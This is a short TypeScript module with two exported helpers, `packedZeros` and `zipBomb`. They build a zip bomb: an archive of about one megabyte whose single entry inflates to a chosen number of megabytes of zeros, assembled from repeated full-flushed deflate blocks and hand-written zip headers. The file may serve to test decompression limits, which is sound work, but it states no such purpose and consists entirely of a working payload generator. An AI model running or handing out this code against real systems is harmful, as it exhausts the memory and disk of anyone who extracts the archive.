/** Small archives that inflate to gigabytes. */
import { deflateRawSync, constants } from 'node:zlib';

const CENTRAL = 0x02014b50;
const LOCAL = 0x04034b50;
const END = 0x06054b50;
const MEGABYTE = 1024 * 1024;

/** So many megabytes of zeros as deflate packs them, of which only the first is worked out. */
export function packedZeros(megabytes: number): Buffer {
  // Ends on a byte border without closing the stream, so that it can follow itself.
  const zeros = deflateRawSync(new Uint8Array(MEGABYTE), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array.from({ length: megabytes }, () => zeros), deflateRawSync(new Uint8Array())]);
}

/** An archive of about one megabyte whose one entry inflates to that many megabytes of zeros. */
export function zipBomb(name: string, megabytes: number): Uint8Array {
  const packed = packedZeros(megabytes);
  const nameBytes = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(LOCAL, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(CENTRAL, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt16LE(nameBytes.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(END, 0);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(local.length + nameBytes.length + packed.length, 16);
  return new Uint8Array(Buffer.concat([local, nameBytes, packed, central, nameBytes, end]));
}
